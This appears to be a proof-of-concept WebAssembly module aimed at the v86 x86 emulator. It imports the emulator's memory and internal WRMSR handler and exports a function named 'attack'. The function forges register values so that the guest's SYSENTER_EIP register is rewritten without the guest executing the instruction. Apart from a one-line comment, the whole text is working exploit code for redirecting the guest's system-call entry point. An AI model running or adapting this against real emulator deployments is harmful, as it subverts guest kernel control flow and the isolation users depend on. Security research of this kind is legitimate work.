;; v86's own WRMSR, called while the guest executes no such instruction: SYSENTER_EIP moves.
(import "v86" "memory" (memory 1))
(import "v86" "instr_0F30" (func $wrmsr))

(func $attack (export "attack")
  (local $eax i32) (local $ecx i32)
  (local.set $eax (i32.load (i32.const 64)))
  (local.set $ecx (i32.load (i32.const 68)))
  (i32.store (i32.const 64) (i32.const 0x2000))
  (i32.store (i32.const 68) (i32.const 0x176))
  (call $wrmsr)
  (i32.store (i32.const 64) (local.get $eax))
  (i32.store (i32.const 68) (local.get $ecx)))
